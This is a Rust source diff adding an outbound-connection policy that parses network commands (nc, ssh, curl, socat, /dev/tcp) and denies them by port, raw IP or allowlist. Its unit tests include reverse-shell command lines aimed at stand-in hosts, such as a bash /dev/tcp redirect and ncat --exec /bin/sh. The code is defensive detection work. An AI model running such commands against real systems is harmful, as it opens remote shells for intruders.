@@ -0,0 +1,377 @@
+//! Outbound connection policy for network commands
+//!
+//! Reads the destinations a command line connects to — `nc`/`ncat`/
+//! `netcat`/`telnet` host and port, `ssh` targets, URLs given to `curl` and
+//! `wget`, `socat` TCP/UDP/OPENSSL addresses, and `/dev/tcp` / `/dev/udp`
+//! paths — and checks them against `[egress]`: denied ports, raw IP
+//! addresses, and (when set) an allowlist of `host:port` patterns such as
+//! `*.mycorp.com:443`. This is a coarse, command-level policy; it can't see
+//! connections a program makes on its own.
+
+use once_cell::sync::Lazy;
+use regex::Regex;
+use std::net::IpAddr;
+
+use crate::config::EgressConfig;
+use crate::output::Decision;
+use crate::parser::ast::CommandAnalysis;
+use crate::parser::wrapper;
+
+/// Rule ID for a connection to a denied port
+pub const RULE_PORT: &str = "egress-port";
+
+/// Rule ID for a connection to a raw IP address
+pub const RULE_RAW_IP: &str = "egress-raw-ip";
+
+/// Rule ID for a destination outside `egress.allow`
+pub const RULE_NOT_ALLOWED: &str = "egress-not-allowed";
+
+/// `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT` (bash network redirections)
+static DEV_TCP: Lazy<Regex> = Lazy::new(|| Regex::new(r"/dev/(?:tcp|udp)/([^/\s'\x22]+)/([0-9]+)").unwrap());
+
+/// `nc`/`ncat` options that take a value
+const NC_VALUE_OPTIONS: &str = "cegGiIMmOpqsTVwxX";
+
+/// `ssh` options that take a value
+const SSH_VALUE_OPTIONS: &str = "bcDEeFIiJLlmOopQRSWw";
+
+/// A host and port a command connects to
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Destination {
+    pub host: String,
+    /// `None` when the command doesn't say (and has no default)
+    pub port: Option<u16>,
+    /// Program (or `/dev/tcp`) making the connection
+    pub via: String,
+}
+
+impl std::fmt::Display for Destination {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self.port {
+            Some(port) => write!(f, "{}:{} via {}", self.host, port, self.via),
+            None => write!(f, "{} via {}", self.host, self.via),
+        }
+    }
+}
+
+impl Destination {
+    pub(crate) fn new(host: &str, port: Option<u16>, via: &str) -> Self {
+        Self {
+            host: host.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase(),
+            port,
+            via: via.to_string(),
+        }
+    }
+
+    /// Whether the host is a literal IP address (loopback excepted)
+    fn is_raw_ip(&self) -> bool {
+        self.host.parse::<IpAddr>().is_ok_and(|ip| !ip.is_loopback())
+    }
+}
+
+/// Destinations a command line connects to, with wrappers unwrapped
+pub fn destinations(command: &str, analysis: &CommandAnalysis, wrappers: &[String]) -> Vec<Destination> {
+    let mut found: Vec<Destination> = DEV_TCP
+        .captures_iter(command)
+        .map(|c| Destination::new(&c[1], c[2].parse().ok(), "/dev/tcp"))
+        .collect();
+    for cmd in analysis.commands.iter().filter(|c| !c.is_dynamic) {
+        for text in wrapper::unwrap_command(&cmd.full_command, wrappers) {
+            let Some(words) = shlex::split(&text) else {
+                continue;
+            };
+            for destination in command_destinations(&words) {
+                if !found.contains(&destination) {
+                    found.push(destination);
+                }
+            }
+        }
+    }
+    found
+}
+
+fn command_destinations(words: &[String]) -> Vec<Destination> {
+    let Some((program, args)) = words.split_first() else {
+        return Vec::new();
+    };
+    let name = program.rsplit('/').next().unwrap_or(program);
+    match name {
+        "nc" | "ncat" | "netcat" => nc_destination(name, args).into_iter().collect(),
+        "telnet" => {
+            let operands = operands(args, "belnX");
+            operands
+                .first()
+                .map(|host| Destination::new(host, operands.get(1).map_or(Some(23), |p| parse_port(p)), name))
+                .into_iter()
+                .collect()
+        }
+        "ssh" => ssh_destination(args).into_iter().collect(),
+        "curl" | "wget" => args.iter().filter_map(|a| url_destination(a, name)).collect(),
+        "socat" => args.iter().filter_map(|a| socat_destination(a)).collect(),
+        _ => Vec::new(),
+    }
+}
+
+/// Positional arguments, skipping options (and the values of the short
+/// options listed in `value_options`, clustered or not)
+fn operands<'a>(args: &'a [String], value_options: &str) -> Vec<&'a str> {
+    let mut operands = Vec::new();
+    let mut iter = args.iter();
+    while let Some(arg) = iter.next() {
+        if arg == "--" {
+            operands.extend(iter.map(String::as_str));
+            break;
+        }
+        if let Some(long) = arg.strip_prefix("--") {
+            // ncat's `--exec CMD`, `--proxy HOST`, ... (other tools' long
+            // options here take no separate value)
+            if !long.contains('=') && NC_LONG_VALUE_OPTIONS.contains(&long) {
+                iter.next();
+            }
+            continue;
+        }
+        match arg.strip_prefix('-').filter(|c| !c.is_empty()) {
+            Some(cluster) => {
+                if let Some(i) = cluster.find(|c| value_options.contains(c)) {
+                    if i + 1 == cluster.len() {
+                        iter.next();
+                    }
+                }
+            }
+            None => operands.push(arg.as_str()),
+        }
+    }
+    operands
+}
+
+/// ncat long options that take a separate value
+const NC_LONG_VALUE_OPTIONS: &[&str] = &[
+    "exec", "sh-exec", "lua-exec", "proxy", "proxy-type", "proxy-auth", "source-port", "source", "wait",
+    "idle-timeout", "output", "hex-dump", "allow", "allowfile", "deny", "denyfile", "max-conns", "delay",
+    "ssl-cert", "ssl-key", "ssl-trustfile", "ssl-ciphers", "ssl-servername", "ssl-alpn",
+];
+
+/// Port number at the start of `s` (`4444`, `20-30`); service names are unknown
+fn parse_port(s: &str) -> Option<u16> {
+    s.split('-').next()?.parse().ok()
+}
+
+/// `nc HOST PORT`, unless it listens (`-l`, `--listen`)
+fn nc_destination(name: &str, args: &[String]) -> Option<Destination> {
+    let listens = args.iter().any(|a| {
+        a == "--listen" || a.strip_prefix('-').is_some_and(|c| !c.starts_with('-') && c.contains('l'))
+    });
+    if listens {
+        return None;
+    }
+    let operands = operands(args, NC_VALUE_OPTIONS);
+    let host = operands.first()?;
+    Some(Destination::new(host, operands.get(1).and_then(|p| parse_port(p)), name))
+}
+
+/// `ssh [-p PORT] [USER@]HOST` or `ssh ssh://[USER@]HOST[:PORT]`
+fn ssh_destination(args: &[String]) -> Option<Destination> {
+    let mut port = None;
+    let mut iter = args.iter();
+    while let Some(arg) = iter.next() {
+        let value = |flag: char| -> Option<String> {
+            let rest = arg.strip_prefix('-')?.strip_prefix(flag)?;
+            Some(rest.to_string())
+        };
+        if let Some(rest) = value('p') {
+            port = if rest.is_empty() { iter.next().and_then(|p| p.parse().ok()) } else { rest.parse().ok() };
+        } else if let Some(rest) = value('o') {
+            let option = if rest.is_empty() { iter.next().cloned().unwrap_or_default() } else { rest };
+            if let Some(p) = option.strip_prefix("Port=").or_else(|| option.strip_prefix("Port ")) {
+                port = p.trim().parse().ok();
+            }
+        }
+    }
+    let target = operands(args, SSH_VALUE_OPTIONS).into_iter().next()?;
+    if target.starts_with("ssh://") {
+        return url_destination(target, "ssh");
+    }
+    let host = target.rsplit('@').next().unwrap_or(target);
+    Some(Destination::new(host, port.or(Some(22)), "ssh"))
+}
+
+/// Host and port of a URL argument (`https://host:8443/path`), with the
+/// scheme's default port
+pub(crate) fn url_destination(arg: &str, via: &str) -> Option<Destination> {
+    let (scheme, rest) = arg.split_once("://")?;
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let authority = authority.rsplit('@').next().unwrap_or(authority);
+    let (host, port) = split_host_port(authority);
+    if host.is_empty() {
+        return None;
+    }
+    let port = port.or(match scheme.to_ascii_lowercase().as_str() {
+        "http" | "ws" => Some(80),
+        "https" | "wss" => Some(443),
+        "ftp" => Some(21),
+        "ssh" | "sftp" | "scp" => Some(22),
+        _ => None,
+    });
+    Some(Destination::new(host, port, via))
+}
+
+/// `host:port`, `[v6]:port` or a bare host
+fn split_host_port(authority: &str) -> (&str, Option<u16>) {
+    if let Some(rest) = authority.strip_prefix('[') {
+        return match rest.split_once(']') {
+            Some((host, tail)) => (host, tail.strip_prefix(':').and_then(|p| p.parse().ok())),
+            None => (authority, None),
+        };
+    }
+    match authority.rsplit_once(':') {
+        Some((host, port)) if !host.contains(':') => match port.parse() {
+            Ok(port) => (host, Some(port)),
+            Err(_) => (authority, None),
+        },
+        _ => (authority, None),
+    }
+}
+
+/// `TCP:host:port`, `TCP4-CONNECT:host:port`, `OPENSSL:host:port,verify=0`, ...
+fn socat_destination(arg: &str) -> Option<Destination> {
+    let (kind, rest) = arg.split_once(':')?;
+    let kind = kind.to_ascii_uppercase();
+    let connects = ["TCP", "TCP4", "TCP6", "UDP", "UDP4", "UDP6", "OPENSSL", "SSL"]
+        .iter()
+        .any(|k| kind == *k || kind == format!("{}-CONNECT", k));
+    if !connects {
+        return None;
+    }
+    let address = rest.split(',').next()?;
+    let (host, port) = split_host_port(address);
+    Some(Destination::new(host, port, "socat"))
+}
+
+/// A compiled `egress.allow` entry
+pub(crate) struct AllowEntry {
+    /// `None` for `*` (any host)
+    host: Option<String>,
+    port: Option<u16>,
+}
+
+impl AllowEntry {
+    /// `host`, `host:port`, `*.domain:port`, `*:port`
+    pub(crate) fn parse(entry: &str) -> Self {
+        let (host, port) = split_host_port(entry.trim());
+        let host = host.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase();
+        Self {
+            host: (host != "*").then_some(host),
+            port,
+        }
+    }
+
+    pub(crate) fn matches(&self, destination: &Destination) -> bool {
+        let host_ok = match &self.host {
+            None => true,
+            Some(pattern) => match pattern.strip_prefix("*.") {
+                Some(domain) => destination
+                    .host
+                    .strip_suffix(domain)
+                    .is_some_and(|sub| sub.ends_with('.') && sub.len() > 1),
+                None => destination.host == *pattern,
+            },
+        };
+        host_ok && (self.port.is_none() || self.port == destination.port)
+    }
+}
+
+/// Check the destinations of `command` against the egress policy
+///
+/// `active` reports whether a rule ID is in effect (not ignored or off).
+pub fn check(
+    command: &str,
+    analysis: &CommandAnalysis,
+    config: &EgressConfig,
+    wrappers: &[String],
+    active: impl Fn(&str) -> bool,
+) -> Option<Decision> {
+    if !config.is_enabled() {
+        return None;
+    }
+    let allow: Vec<AllowEntry> = config.allow.iter().map(|e| AllowEntry::parse(e)).collect();
+    for destination in destinations(command, analysis, wrappers) {
+        if let Some(port) = destination.port.filter(|p| config.deny_ports.contains(p)) {
+            if active(RULE_PORT) {
+                return Some(Decision::deny(
+                    RULE_PORT,
+                    format!("Outbound connection to denied port {} ({})", port, destination),
+                ));
+            }
+        }
+        if config.deny_raw_ips && destination.is_raw_ip() && active(RULE_RAW_IP) {
+            return Some(Decision::deny(
+                RULE_RAW_IP,
+                format!("Outbound connection to a raw IP address ({})", destination),
+            ));
+        }
+        if !allow.is_empty() && !allow.iter().any(|e| e.matches(&destination)) && active(RULE_NOT_ALLOWED) {
+            return Some(Decision::deny(
+                RULE_NOT_ALLOWED,
+                format!("Outbound connection not in egress.allow ({})", destination),
+            ));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parser::ast;
+
+    fn hosts(command: &str) -> Vec<String> {
+        destinations(command, &ast::analyze_command(command), &["sudo".to_string()])
+            .iter()
+            .map(|d| format!("{}:{}", d.host, d.port.map_or("?".to_string(), |p| p.to_string())))
+            .collect()
+    }
+
+    #[test]
+    fn test_destinations() {
+        assert_eq!(hosts("nc -w 3 10.0.0.1 4444"), ["10.0.0.1:4444"]);
+        assert_eq!(hosts("nc -lvnp 4444"), Vec::<String>::new());
+        assert_eq!(hosts("ncat --exec /bin/sh Evil.example 1337"), ["evil.example:1337"]);
+        assert_eq!(hosts("telnet mail.example.com 25"), ["mail.example.com:25"]);
+        assert_eq!(hosts("sudo ssh -i key -p 2222 deploy@build.example.com uptime"), ["build.example.com:2222"]);
+        assert_eq!(hosts("ssh -o Port=2200 git@example.com"), ["example.com:2200"]);
+        assert_eq!(
+            hosts("curl -sSL https://api.example.com/v1 && wget http://[::1]:8080/x"),
+            ["api.example.com:443", "::1:8080"]
+        );
+        assert_eq!(hosts("socat TCP4:10.0.0.1:9001 EXEC:sh"), ["10.0.0.1:9001"]);
+        assert_eq!(hosts("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"), ["10.0.0.1:4242"]);
+        assert!(hosts("git status && echo nc").is_empty());
+    }
+
+    #[test]
+    fn test_policy() {
+        let config = EgressConfig {
+            deny_ports: vec![4444, 1337],
+            deny_raw_ips: true,
+            allow: vec!["*.mycorp.com:443".to_string(), "localhost".to_string()],
+        };
+        let id = |command: &str| {
+            check(command, &ast::analyze_command(command), &config, &[], |_| true).and_then(|d| d.rule_id().map(str::to_string))
+        };
+        assert_eq!(id("nc example.com 4444").as_deref(), Some(RULE_PORT));
+        assert_eq!(id("curl https://93.184.216.34/").as_deref(), Some(RULE_RAW_IP));
+        assert_eq!(id("curl https://example.com/").as_deref(), Some(RULE_NOT_ALLOWED));
+        assert_eq!(id("curl http://git.mycorp.com/").as_deref(), Some(RULE_NOT_ALLOWED));
+        assert_eq!(id("curl https://mycorp.com.evil.io/").as_deref(), Some(RULE_NOT_ALLOWED));
+        assert_eq!(id("curl https://git.mycorp.com/api"), None);
+        assert_eq!(id("curl http://localhost:3000/health"), None);
+        assert_eq!(id("cargo build"), None);
+
+        // Ignored rules fall through to the next check
+        let command = "nc 10.0.0.1 4444";
+        let analysis = ast::analyze_command(command);
+        let decision = check(command, &analysis, &config, &[], |id| id != RULE_PORT);
+        assert_eq!(decision.unwrap().rule_id(), Some(RULE_RAW_IP));
+        assert!(check(command, &analysis, &EgressConfig::default(), &[], |_| true).is_none());
+    }
+}